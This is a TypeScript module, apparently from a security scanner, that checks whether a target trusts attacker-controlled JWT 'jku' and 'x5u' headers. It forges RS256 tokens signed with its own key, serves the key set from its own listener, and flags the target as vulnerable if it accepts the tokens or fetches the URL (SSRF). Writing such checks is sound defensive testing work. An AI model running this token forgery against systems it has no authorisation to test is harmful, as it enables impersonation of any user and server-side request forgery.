import { generateKeyPairSync } from 'node:crypto'
import { defineAttack } from '../../attack.ts'
import { inconclusive, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { mint, readToken } from '../../kit/forge-token.ts'
import { openListener } from '../../kit/listener.ts'
import { tryVariants } from '../../kit/token-attack.ts'

export default defineAttack({
  id: 'token/key-jku-external',
  rows: ['token.key-jku.external', 'token.key-x5u.external'],
  title: 'A token whose jku and x5u headers name a key set of the attacker’s, served by a listener of ours',
  requirement: 'ASVS V9.1.3: jku and x5u are only followed to trusted sources; RFC 8725 section 3.10',
  impact: 'Anyone signs tokens for any user; even a refused token makes the server call any address (SSRF).',
  remedy: 'Configure the key set’s address on the server and ignore the one in the token.',
  severity: 'critical',
  cwe: ['CWE-347', 'CWE-918'],
  references: ['ASVS V9.1.3', 'RFC 8725 section 3.10', 'API7:2023'],
  effect: 'write',
  holds: 'nothing',
  provenBy: 'trust-jku',
  needs: ['jwt'],
  async run(context) {
    if (context.rubbishAccepted) return inconclusive('superseded by auth/absent-no-token: any token gets in')
    const { privateKey, publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }
    const listener = await openListener(context, () => ({ keys: [jwk] }))
    try {
      const witness = await openWitness(context)
      await control(context, 'the real token', witness)
      const { header, payload } = readToken(context.victim.token)
      const key = {
        algorithm: 'RS256',
        privateKey: privateKey.export({ type: 'pkcs8', format: 'pem' }) as string,
      } as const
      const variants = ['jku', 'x5u'].map((name) => ({
        name: `${name} to a listener of ours`,
        token: mint(key, { ...header, alg: 'RS256', kid: 'own', [name]: `${listener.url}/${name}.json` }, payload),
      }))
      const judgement = await tryVariants(context, witness, variants)
      if (listener.visits.length === 0) return judgement
      context.note('received', `the target fetched ${listener.visits.join(', ')} from our listener`)
      return vulnerable(context.evidence)
    } finally {
      await listener.close()
    }
  },
})
